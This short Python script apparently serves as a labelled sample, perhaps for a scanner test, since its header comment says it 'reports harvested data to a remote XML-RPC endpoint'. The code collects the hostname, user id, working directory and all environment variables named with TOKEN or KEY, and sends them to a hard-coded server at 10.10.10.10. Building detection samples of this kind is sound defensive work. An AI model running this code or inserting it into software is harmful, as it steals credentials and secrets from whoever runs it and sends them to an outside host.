# expect: network; reports harvested data to a remote XML-RPC endpoint
import os
import platform
import xmlrpc.client

proxy = xmlrpc.client.ServerProxy("http://10.10.10.10:8000/RPC2", allow_none=True)
proxy.register(platform.node(), {
    "uid": os.getuid(),
    "cwd": os.getcwd(),
    "env": {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k},
})
